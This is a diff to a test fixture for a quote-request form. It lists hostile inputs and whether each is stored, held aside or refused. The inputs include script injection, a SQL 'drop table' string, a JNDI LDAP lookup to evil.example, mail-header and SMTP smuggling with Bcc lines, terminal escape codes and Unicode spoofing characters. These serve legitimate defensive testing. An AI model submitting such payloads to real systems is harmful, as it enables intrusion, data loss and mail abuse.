@@ -8,24 +8,32 @@ import {
   keptAside,
 } from "./HostileRequest";
 
-// What looks for a way into the mail, the log or the database, on its whole way. api/compose/composeMail.test.ts tries any text.
-
 type Verdict = "kept as typed" | "kept aside" | "refused";
 
 /** What is put into each one-line field, and what becomes of it. Accepted text is stored as typed and escaped when shown. */
 const payloads: [name: string, text: string, verdict: Verdict][] = [
+  ["bold", "<b>Jane</b>", "kept as typed"],
   ["an element that closes ours", "</td></tr></table><h1>Pay now</h1>", "kept as typed"],
   ["an attribute that ends ours", 'x" onmouseover="alert(1)', "kept as typed"],
+  ["a style sheet", "<style>body{display:none}</style>", "kept as typed"],
   ["entities", "&lt;b&gt; &amp; &#60;", "kept as typed"],
   ["a script", "<script>alert(1)</script>", "kept aside"],
+  ["a link", '<a href="https://evil.example">click</a>', "kept aside"],
   ["SQL", "x'); drop table quote_requests; --", "kept as typed"],
   ["a filter of PostgREST", "eq.1,or=(id.gt.0)", "kept as typed"],
+  ["a formula", '=HYPERLINK("x","y")', "kept as typed"],
+  ["an LDAP look-up", "${jndi:ldap://evil.example/x}", "kept as typed"],
   ["an encoded word", "=?utf-8?B?QmNjOiB4QGV4YW1wbGUuY29t?=", "kept as typed"],
+  ["an encoded line break", "Jane%0d%0aBcc: victim@example.com", "kept as typed"],
   ["more addresses", "Jane <victim@example.com>, other@example.com", "kept as typed"],
   ["quotes and a backslash", '"Jane\\" <x@example.com>', "kept as typed"],
   ["a line break and Bcc", "Jane\r\nBcc: victim@example.com", "refused"],
+  ["a carriage return", "Jane\rX-Evil: 1", "refused"],
+  ["a line separator", "Jane\u2028Bcc: victim@example.com", "refused"],
   ["NUL", "Jane\0Doe", "refused"],
   ["terminal codes", "\u001b[31mJane\u001b[2J", "refused"],
+  ["text turned around", "Jane\u202Egpj.exe", "refused"],
+  ["a tag letter", "Jane\u{E0041}Doe", "refused"],
   ["half a letter", "Jane\ud800Doe", "refused"],
 ];
 
@@ -49,33 +57,50 @@ const paragraphs = Object.entries({
     "one\r\n.\r\nMAIL FROM:<x@example.com>\r\nRCPT TO:<victim@example.com>\r\nDATA",
   "a lonely dot at each line break there is": "a\n.\nb\r.\rc\r\n.\r\nd",
   "a boundary": "----_NmP-0000\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>",
+  elements: "</td></table><h1>x</h1><style>*{}</style><input autofocus onfocus=x>",
   "a line of 5,000 letters": "x".repeat(5000),
   "JSON that looks like a log line": '{"event":"request.received"}\n{"event":"forged"}',
+  "From at the start of a line": "From me\nFrom you",
 }).flatMap(([name, typed]) =>
   cases(acceptedAs({ details: typed.replaceAll(/\r\n?/g, "\n") }), {
     [`details: ${name}`]: quote({ details: typed }),
   }),
 );
 
-/** Where one looks for a way into the mail's headers. Beside shared/isEmailAddress.ts is every other wrong address. */
-const emails = ["jane@example.com\r\nBcc: victim@example.com", '"ja\r\nne"@example.com'].flatMap(
-  (email) =>
-    cases(invalid("email"), { [`email refused: ${JSON.stringify(email)}`]: quote({ email }) }),
-);
-
-/** What an address may have all the same, and a program that reads mail could take for more than one. */
-const strangeEmails = ['"<b>jane</b>"@example.com', "jane?subject=x&bcc=y@example.com"].flatMap(
-  (email) => cases(acceptedAs({ email }), { [`email accepted: ${email}`]: quote({ email }) }),
-);
-
-const writings = [
-  ["محمد", "الأحمد"],
-  ["𐐖𐐲𐑊", "𠮷野"],
-  ["Jane 🧹", "👩‍👩‍👧‍👦"],
-].flatMap(([firstName = "", lastName = ""]) =>
-  cases(acceptedAs({ first_name: firstName, last_name: lastName }), {
-    [`a person called ${firstName} ${lastName}`]: quote({ firstName, lastName }),
+const aside: HostileCase[] = [
+  ...cases(acceptedAs({ details: "a\nb\nc[31mred" }), {
+    "details: line separators and terminal codes": quote({
+      details: "a\u2028b\u2029c\u001b[31mred\u0007",
+    }),
   }),
+  ...cases(keptAside, {
+    "details: links to four websites": quote({
+      details: "https://a.example https://b.example www.c.example www.d.example",
+    }),
+  }),
+  ...cases(invalid("details"), {
+    "details: NUL": quote({ details: "a\0b" }),
+  }),
+];
+
+/** Where one looks for a way into the mail's headers. Beside shared/isEmailAddress.ts is every wrong address. */
+const emails = [
+  "jane@example.com\r\nBcc: victim@example.com",
+  "jane@example.com%0aBcc:victim@example.com",
+  "jane@example.com, victim@example.com",
+  "Jane <jane@example.com>",
+  "jane@example.com?bcc=victim@example.com",
+  '"ja\r\nne"@example.com',
+].flatMap((email) =>
+  cases(invalid("email"), { [`email refused: ${JSON.stringify(email)}`]: quote({ email }) }),
 );
 
-export const injections = [...lines, ...paragraphs, ...emails, ...strangeEmails, ...writings];
+const phones = [
+  "404-555-0134\r\nBcc: victim@example.com",
+  "404-555-0134<script>alert(1)</script>",
+  "4045550134'; drop table quote_requests; --",
+].flatMap((phone) =>
+  cases(invalid("phone"), { [`phone refused: ${JSON.stringify(phone)}`]: quote({ phone }) }),
+);
+
+export const injections = [...lines, ...paragraphs, ...aside, ...emails, ...phones];
